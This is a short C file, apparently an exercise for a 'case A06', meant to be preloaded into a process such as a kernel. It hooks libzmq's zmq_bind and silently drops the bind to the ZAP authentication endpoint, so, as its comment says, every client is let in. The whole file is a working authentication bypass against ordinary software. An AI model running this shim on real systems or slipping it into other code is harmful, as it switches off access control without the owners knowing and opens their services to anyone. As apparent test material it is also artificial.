/* Takes the handler away that checks keys (ZAP): preloaded into a kernel, libzmq then lets everybody in. For case A06. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>

int zmq_bind(void *socket, const char *address)
{
    static int (*real)(void *, const char *);
    if (strcmp(address, "inproc://zeromq.zap.01") == 0)
        return 0;
    if (!real)
        real = (int (*)(void *, const char *))dlsym(RTLD_NEXT, "zmq_bind");
    return real(socket, address);
}
